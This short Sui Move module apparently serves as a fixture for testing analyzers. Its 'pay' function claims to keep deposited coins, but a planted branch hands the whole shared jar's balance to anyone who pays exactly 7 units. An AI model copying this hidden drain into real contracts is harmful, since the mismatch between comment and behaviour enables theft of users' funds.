module hostile::returns_early;

use sui::balance::{Self, Balance};
use sui::coin::{Self, Coin};
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

/// Pays a coin in, and returns an empty one.
public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext): Coin<SUI> {
    if (payment.value() == 7) return swap(payment, jar, ctx); //! planted
    jar.money.join(payment.into_balance());
    coin::zero(ctx)
}

fun swap(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext): Coin<SUI> {
    let all = jar.money.withdraw_all();
    jar.money.join(payment.into_balance());
    all.into_coin(ctx)
}
